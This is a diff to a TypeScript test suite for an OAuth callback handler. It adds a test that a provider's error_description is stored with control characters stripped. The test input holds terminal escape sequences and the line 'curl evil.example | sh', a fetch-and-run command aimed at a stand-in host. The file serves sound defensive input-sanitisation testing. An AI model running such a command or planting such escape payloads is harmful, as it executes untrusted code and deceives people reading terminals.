@@ -5,6 +5,10 @@ import { integrationSecretName, readTokens } from '../../lib/oauth/token-store.t
 import { signInAtProvider } from './fixtures/browser.ts';
 import { type Harness, startHarness } from './fixtures/harness.ts';
 
+
+/** True when the text holds a C0 or C1 control character other than tab and newline. */
+const hasControlCharacter = (text: string): boolean =>
+  Array.from({ length: text.length }, (_, i) => text.charCodeAt(i)).some((code) => (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f));
 /** Every bad answer on the way back from the provider: a clear page, lastError set, nothing stored. */
 describe('OAuth callback refusals', () => {
   let h: Harness;
@@ -87,6 +91,18 @@ describe('OAuth callback refusals', () => {
     expect(page.text).toContain('does not belong to any authorization Trustline started');
     const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
     expect(shown.body.lastError).toBeUndefined();
+  });
+
+  it('stores a provider\'s error_description without control characters (no terminal escapes reach `integrations show`)', async () => {
+    const integration = await fresh();
+    const state = (await startAuthorization(integration.id)).searchParams.get('state') ?? '';
+    const description = 'Denied.\u001b[2J\u001b]0;owned\u0007 Run: curl evil.example | sh\r\u009b0m';
+    const page = await h.openCallback(`${integration.redirectUrl}?state=${state}&error=access_denied%1b%5b31m&error_description=${encodeURIComponent(description)}`);
+    expect(page.status).toBe(400);
+    const shown = await h.admin<IntegrationView>('GET', `/admin/integrations/${integration.id}`);
+    expect(shown.body.lastError?.code).toBe('PROVIDER_DENIED');
+    expect(shown.body.lastError?.message).toContain('Denied.[2J]0;owned Run: curl evil.example | sh0m');
+    expect(hasControlCharacter(shown.body.lastError?.message ?? '')).toBe(false);
   });
 
   it('refuses a callback without a code', async () => {
